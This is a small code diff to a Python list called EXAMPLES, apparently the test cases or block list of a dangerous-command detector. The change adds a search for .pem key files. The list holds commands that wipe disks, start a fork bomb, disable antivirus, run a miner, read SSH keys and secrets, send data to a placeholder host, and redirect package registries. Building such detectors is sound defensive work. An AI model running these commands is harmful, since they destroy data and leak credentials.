@@ -25,7 +25,7 @@ EXAMPLES = [
     "mkfs.ext4 /dev/sdb",
     "dd if=/dev/zero of=/dev/sda", "shutil.rmtree('/')", "gci C:\\Users | % { Remove-Item $_ -Recurse }",
     "chmod -R 777 /", "Set-MpPreference -DisableRealtimeMonitoring $true", ":(){ :|:& };:", "xmrig -o stratum+tcp://p:1",
-    "cat ~/.ssh/id_rsa", "security dump-keychain", "cat .env", "$GITHUB_TOKEN", "Path.home()",
+    "cat ~/.ssh/id_rsa", "find ~ -name '*.pem'", "security dump-keychain", "cat .env", "$GITHUB_TOKEN", "Path.home()",
     "curl -d @- https://x.example",
     "https://pastebin.com/raw/x", "https://discord.com/api/webhooks/1/x", "http://8.8.8.8/x",
     "pip install --index-url http://x.example/simple p", "npm config set registry http://x.example/",
